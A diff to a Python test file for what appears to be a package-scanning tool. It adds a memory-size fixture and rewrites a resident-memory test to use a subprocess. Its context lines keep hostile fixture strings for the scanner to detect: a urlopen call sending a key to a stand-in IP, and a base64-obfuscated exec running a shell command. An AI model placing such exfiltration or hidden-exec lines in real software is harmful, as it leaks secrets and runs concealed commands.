@@ -36,6 +36,13 @@ SEND += "    urllib.request.urlopen('http://203.0.113.7/c?k=' + key)\n\n\ngo()\n
 HIDDEN = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n"
 
 
+@pytest.fixture(autouse=True)
+def _a_fresh_cli_sized_process(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The thresholds tested here are a fresh CLI's: pytest's own process, grown by the
+    suite, would raise them (ADR 0077)."""
+    monkeypatch.setattr(spread, "_resident_mb", lambda: 60.0)
+
+
 def _package() -> bytes:
     """An sdist of ~40 modules (well over the split threshold) with findings in modules the
     child takes and in modules this process keeps, a cross-file chain and two copies."""
@@ -365,5 +372,16 @@ def test_a_large_process_shares_only_work_worth_its_larger_fork(
 
 
 def test_the_resident_size_is_read_from_the_kernel() -> None:
-    """Known on Linux (this process holds the interpreter and the test suite)."""
-    assert spread._resident_mb() > 10
+    """Known on Linux (a fresh interpreter holds tens of MB)."""
+    out = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            "from airlock.imports.packages import spread\nprint(spread._resident_mb())",
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
+    )
+    assert 5 < float(out.stdout) < 1024
